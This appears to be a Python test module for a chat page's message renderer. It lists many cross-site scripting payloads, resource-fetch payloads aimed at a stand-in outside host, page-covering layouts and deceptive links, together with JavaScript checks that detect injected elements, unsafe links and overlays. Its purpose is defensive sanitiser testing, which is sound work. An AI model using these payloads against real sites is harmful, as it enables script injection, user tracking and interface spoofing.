"""Texts that people and models might write to make a page do something. ``{u}`` is the address of another site."""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread

SCRIPTS = (
    "<script>window.hacked = 1</script>",
    "<ScRiPt>window.hacked = 1</sCrIpT>",
    "</script><script>window.hacked = 1</script>",
    "--><script>window.hacked = 1</script><!--",
    "]]><script>window.hacked = 1</script>",
    "<script src='{u}/s.js'></script>",
    "<script type=module>import '{u}/m.js'</script>",
    "<img src=x onerror='window.hacked = 1'>",
    "<img/src/onerror=window.hacked=1>",
    "<img src=x onerror=alert(1)>",
    "<svg onload='window.hacked = 1'></svg>",
    "<svg><script>window.hacked = 1</script></svg>",
    "<svg><animate onbegin='window.hacked = 1' attributeName=x dur=1s></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=window.hacked=1>#x'/></svg>",
    "<details open ontoggle='window.hacked = 1'>x</details>",
    "<iframe srcdoc='<script>parent.hacked = 1</script>'></iframe>",
    "<iframe src='javascript:parent.hacked = 1'></iframe>",
    "<object data='javascript:window.hacked = 1'></object>",
    "<embed src='javascript:window.hacked = 1'>",
    "<video><source onerror='window.hacked = 1'></video>",
    "<audio src=x onerror='window.hacked = 1'></audio>",
    "<input autofocus onfocus='window.hacked = 1'>",
    "<body onload='window.hacked = 1'>",
    "<marquee onstart='window.hacked = 1'>x</marquee>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=window.hacked=1>",
    "<math><annotation-xml encoding='text/html'><img src onerror=window.hacked=1></annotation-xml></math>",
    "<noscript><p title='</noscript><img src=x onerror=window.hacked=1>'>",
    "<template><img src=x onerror=window.hacked=1></template>",
    "<form action='javascript:window.hacked = 1'><button id=go>go</button></form>",
    "<button popovertarget=composer onclick='window.hacked = 1'>x</button>",
    "<a href='javascript:window.hacked = 1' class=hit>x</a>",
    "[x](javascript:window.hacked=1)",
    "[x](JaVaScRiPt:window.hacked=1)",
    "[x](  java\nscript:window.hacked=1)",
    "[x](java&#115;cript:window.hacked=1)",
    "[x](&#x6A;avascript:window.hacked=1)",
    "[x](java%0ascript:window.hacked=1)",
    "[x](\x01javascript:window.hacked=1)",
    "[x](vbscript:window.hacked=1)",
    "[x](data:text/html,<script>opener.hacked=1</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5vcGVuZXIuaGFja2VkPTE8L3NjcmlwdD4=)",
    "[x](blob:http://127.0.0.1/1)",
    "[x](file:///etc/passwd)",
    "<javascript:window.hacked=1>",
    "<http://x.invalid/'onmouseover='window.hacked=1>",
    "[x](http://x.invalid/'onmouseover='window.hacked=1)",
    '[x](http://x.invalid/"onmouseover="window.hacked=1)',
    "[x](http://x.invalid '\"onmouseover=window.hacked=1')",
    "![x](x' onerror='window.hacked=1)",
    '![x"onerror="window.hacked=1](x)',
    "![x](javascript:window.hacked=1)",
    "<img src='x`onerror=window.hacked=1'>",
    "[a]: javascript:window.hacked=1\n\n[x][a]",
    "```html\n<script>window.hacked = 1</script>\n```",
    '```"><img/src=x/onerror=window.hacked=1>\ncode\n```',
    "```' onclick='window.hacked=1\ncode\n```",
    "`<img src=x onerror=window.hacked=1>`",
    "    <img src=x onerror=window.hacked=1>",
    '| <img src=x onerror=window.hacked=1> | b |\n|---|:-:" onclick="window.hacked=1|\n| 1 | 2 |',
    "| a | b |\n|---|:-:|\n| <img src=x onerror=window.hacked=1> | </td></table><script>window.hacked=1</script> |",
    "```mermaid\ngraph TD; A[\"<img src=x onerror='window.hacked=1'>\"]\n```",
    '```mermaid\n%%{{init: {{"securityLevel": "loose"}}}}%%\ngraph TD; A-->B; click A href "javascript:hacked=1"\n```',
    "$\\href{{javascript:window.hacked=1}}{{x}}$",
    "$$\\href{{javascript:window.hacked=1}}{{x}}$$",
    "$$\\htmlData{{x='onerror=window.hacked=1'}}{{y}}$$",
    "$$\\text{{<img src=x onerror=window.hacked=1>}}$$",
    "$\\text{{</math><img src=x onerror=window.hacked=1>}}$",
    "$\\unicode{{<script>window.hacked=1</script>}}$",
    '\\(\\class{{x" onclick="window.hacked=1}}{{y}}\\)',
    "\\[\\style{{position:fixed}}{{y}}\\]",
    "<base href='{u}/'>",
    "<meta http-equiv=refresh content='0;url={u}/m'>",
    "<style>@keyframes x{{}}</style><b style='animation:x' onanimationstart='window.hacked=1'>x</b>",
    "<think><img src=x onerror=window.hacked=1></think>",
    "{{{{constructor.constructor('window.hacked=1')()}}}}",
    "${{window.hacked=1}}",
    '__i18n__{{"key":"<img src=x onerror=window.hacked=1>"}}',
    "cierzo:drawn",
    "__proto__",
    "&lt;img src=x onerror=window.hacked=1&gt;",
    "\u202e<img src=x onerror=window.hacked=1>\u202c",
    "<\u0000script>window.hacked=1</script>".replace("\0", "\ufffd"),
    "\uff1cscript\uff1ewindow.hacked=1\uff1c/script\uff1e",
    "<a id=gradio_config></a><form name=talk></form><a id=box></a>",
)

FETCHES = (
    "![x]({u}/a.png)",
    "![x][r]\n\n[r]: {u}/b.png",
    "[![x]({u}/aa.png)]({u}/ab)",
    "<img src='{u}/c.png'>",
    "<img srcset='{u}/d.png 2x'>",
    "<picture><source srcset='{u}/e.png'><img></picture>",
    "<video poster='{u}/f.png'></video>",
    "<video src='{u}/g.mp4' autoplay></video>",
    "<audio src='{u}/h.mp3' autoplay></audio>",
    "<input type=image src='{u}/i.png'>",
    "<b style='background:url({u}/j.png)'>x</b>",
    "<table background='{u}/k.png'><tr><td>x</td></tr></table>",
    "<svg><image href='{u}/l.png' width=9 height=9 /></svg>",
    "<svg><image xlink:href='{u}/m.png' width=9 height=9 /></svg>",
    "<svg><filter id=f><feImage href='{u}/n.png'/></filter><rect filter='url(#f)' width=9 height=9 /></svg>",
    "```mermaid\ngraph TD; A[\"<img src='{u}/o.png'>\"]\n```",
    '```mermaid\n%%{{init: {{"themeCSS": ".node{{background:url({u}/p.png)}}"}}}}%%\ngraph TD; A-->B\n```',
    "<link rel=stylesheet href='{u}/q.css'>",
    "<link rel=preload as=image href='{u}/r.png'>",
    "<link rel=dns-prefetch href='{u}'>",
    "<style>@import '{u}/s.css';</style>",
    "<style>body{{background:url({u}/t.png)}}</style>",
    "<iframe src='{u}/u'></iframe>",
    "<object data='{u}/v'></object>",
    "<embed src='{u}/w'>",
    "<track src='{u}/x'>",
    "<b style=\"list-style-image:url('{u}/y.png');display:list-item\">x</b>",
    "<b style=\"content:url('{u}/z.png')\">x</b>",
    "<b style=\"cursor:url('{u}/0.png'),auto\">x</b>",
    "$$\\includegraphics{{{u}/1.png}}$$",
    "<img loading=lazy src='{u}/2.png'>",
    "<a ping='{u}/3' href='/'>x</a>",
    '<script type=speculationrules>{{"prefetch":[{{"urls":["{u}/4"]}}]}}</script>',
)

COVERS = (
    "<div style='position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999;background:red'>x</div>",
    "<div style='position:absolute;top:-900px;left:-900px;width:5000px;height:5000px;z-index:99999'>x</div>",
    "<h1 style='margin-top:-3000px;font-size:4000px;line-height:1'>x</h1>",
    "<b style='display:block;transform:scale(90);width:300px;height:300px'>x</b>",
    "<dialog open style='position:fixed;inset:0'>x</dialog>",
    "<div popover id=p>x</div>",
    "</div></div></article><div id=outside>x</div>",
    "$$\\rule{{9999px}}{{9999px}}$$",
    "$$\\hspace{{-9999px}}\\rule{{20000px}}{{9px}}$$",
    "$$\\raise{{9999px}}{{x}}$$",
    "$\\kern{{-5000px}}\\Huge x$",
    "$$\\begin{{matrix}}" + "x & " * 300 + "x\\end{{matrix}}$$",
    "Z\u0351\u036b\u0343\u036a\u0302" + "\u0351\u036b\u0343\u036a\u0302" * 60 + "algo",
    "w" * 3000,
    "x\n" * 300,
    "> " * 200 + "deep",
    "- " * 200 + "deep",
    "| " + "a |" * 300 + "\n|" + "-|" * 300,
    "\u202e turned around \u2067 and around",
    "# \U000102a7" + "\U0001f469\u200d" * 200,
)

LINKS = (
    "[x](https://user:secret@x.invalid/)",
    "[https://bank.example/](https://x.invalid/)",
    "<https://user@x.invalid/>",
    "[x](//x.invalid/)",
    "[x](\\\\x.invalid\\)",
    "[x](https://x.invalid/\u202egpj.exe)",
    "[x](https://xn--80ak6aa92e.invalid/)",
    "[x](mailto:a@x.invalid?bcc=b@x.invalid&body=<script>)",
    "[x](ftp://x.invalid/)",
    "[x](tel:+341234)",
    "[x](intent://x#Intent;scheme=http;end)",
    "[x](/api/conversations)",
    "[x](#composer)",
    "[x](?c=1)",
    "[x](http://127.0.0.1:1/)",
)

TEXTS = (*SCRIPTS, *FETCHES, *COVERS, *LINKS)


@contextmanager
def elsewhere() -> Iterator[tuple[str, list[str]]]:
    """Another site: its address, and what was asked of it."""
    asked: list[str] = []

    class Site(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(204)
            self.end_headers()

        do_POST = do_GET  # noqa: N815 - as the library has it

        def log_message(self, *_: object) -> None:
            """Say nothing."""

    with ThreadingHTTPServer(("127.0.0.1", 0), Site) as server:
        thread = Thread(target=server.serve_forever)
        thread.start()
        try:
            yield f"http://127.0.0.1:{server.server_port}", asked
        finally:
            server.shutdown()
            thread.join()


LOOK = """() => {
    const found = [];
    const bodies = [...document.querySelectorAll('#talk .message .body')];
    const known = new Set(`DIV P EM STRONG S CODE PRE SPAN A UL OL LI BLOCKQUOTE H1 H2 H3 H4 H5 H6 HR BR
        TABLE THEAD TBODY TR TH TD BUTTON svg path`.split(/\\s+/));
    const named = new Set(`class href title target rel data-language tabindex type start viewBox d
        aria-hidden aria-label dir`.split(/\\s+/));
    for (const body of bodies) for (const element of body.querySelectorAll('*')) {
        const formula = element.closest('math');
        if (formula ? element.namespaceURI !== 'http://www.w3.org/1998/Math/MathML' : !known.has(element.tagName)) {
            found.push(`alien <${element.tagName}>`);
        }
        for (const { name, value } of element.attributes) {
            const aligned = name === 'style' && /^text-align:(left|center|right)$/.test(value);
            if (!aligned && !named.has(name) && !formula) found.push(`attribute ${name}=${value.slice(0, 60)}`);
            if (formula && /^on|style|href|src|class|id$/.test(name)) found.push(`formula's ${name}`);
        }
    }
    for (const link of document.querySelectorAll('#talk .message a')) {
        const to = URL.parse(link.href);
        if (!to) { found.push(`a link to nowhere: ${link.outerHTML.slice(0, 80)}`); continue; }
        if (!['http:', 'https:', 'mailto:'].includes(to.protocol)) found.push(`link to ${link.href.slice(0, 80)}`);
        if (to.username || to.password) found.push(`a link with a name: ${link.href}`);
        if (!/^[a-z]+:/i.test(link.getAttribute('href'))) found.push(`a link without a host: ${link.href}`);
        if (!link.relList.contains('noopener') || link.target !== '_blank') found.push(`no noopener: ${link.href}`);
        if (link.title !== link.getAttribute('href')) found.push(`a link that does not say where: ${link.href}`);
    }
    const kinds = 'script, iframe, object, embed, base, meta, link, frame, template';
    const aliens = document.querySelectorAll(`body :is(${kinds})`);
    for (const alien of aliens) found.push(`alien ${alien.outerHTML.slice(0, 80)}`);
    const acts = '#outside, [onerror], [onclick], [onload]';
    const marked = document.querySelectorAll(`${acts}, #talk form:not(#composer, .editing)`);
    for (const alien of marked) found.push(`alien ${alien.outerHTML.slice(0, 80)}`);
    if (document.querySelectorAll('#box, #talk').length !== 2) found.push('a second box');
    if (window.hacked !== undefined) found.push('a script ran');
    return [...new Set(found)];
}"""
"""What of the page is not as the page makes it: elements, attributes and links in messages that no message may have."""

LIMITS = """() => {
    const found = [];
    const clip = (rect, by) => ({ left: Math.max(rect.left, by.left), top: Math.max(rect.top, by.top),
        right: Math.min(rect.right, by.right), bottom: Math.min(rect.bottom, by.bottom) });
    const clips = (style, position) => {
        const holds = /paint|content|strict|layout/.test(style.contain) || style.transform !== 'none';
        const cuts = style.overflowX !== 'visible' || /paint|content|strict/.test(style.contain);
        return cuts && (holds || (position !== 'fixed' && (position !== 'absolute' || style.position !== 'static')));
    };
    let elements = 0;
    for (const message of document.querySelectorAll('#talk article.message')) {
        const limits = message.getBoundingClientRect();
        for (const element of message.querySelectorAll('*')) {
            elements += 1;
            let seen = element.getBoundingClientRect();
            let { position } = getComputedStyle(element);
            for (let around = element.parentElement; ; around = around.parentElement) {
                const style = getComputedStyle(around);
                if (clips(style, position)) {
                    seen = clip(seen, around.getBoundingClientRect());
                    if (style.position !== 'static' || around === message) position = style.position;
                }
                if (around === message) break;
            }
            if (seen.right - seen.left <= 0 || seen.bottom - seen.top <= 0) continue;
            const out = Math.max(limits.left - seen.left, limits.top - seen.top, seen.right - limits.right,
                seen.bottom - limits.bottom);
            if (out > 0.5) found.push(`<${element.tagName}> of ${message.innerText.slice(0, 40)}: ${out} px outside`);
        }
    }
    return { elements, found: found.slice(0, 20) };
}"""
"""Whether anything of a message is drawn outside it: what its own edges and those between cut off is not drawn."""

POINTS = """() => {
    const found = [];
    let points = 0;
    for (let x = 3; x < innerWidth; x += innerWidth / 9) for (let y = 3; y < innerHeight; y += 48) {
        points += 1;
        const hit = document.elementFromPoint(x, y);
        const message = hit?.closest('article.message');
        if (!message) continue;
        const { left, right, top, bottom } = message.getBoundingClientRect();
        const view = document.querySelector('#transcript').getBoundingClientRect();
        const inside = x >= left - 1 && x <= right + 1 && y >= top - 1 && y <= bottom + 1;
        if (!inside || y < view.top - 1 || y > view.bottom + 1) found.push(`${x},${y}: ${hit.outerHTML.slice(0, 80)}`);
    }
    const box = document.querySelector('#box').getBoundingClientRect();
    const over = document.elementFromPoint(box.x + box.width / 2, box.y + box.height / 2);
    if (over?.id !== 'box') found.push(`over the box: ${over?.outerHTML.slice(0, 80)}`);
    return { points, found };
}"""
"""Whether what the pointer meets at any point belongs there."""
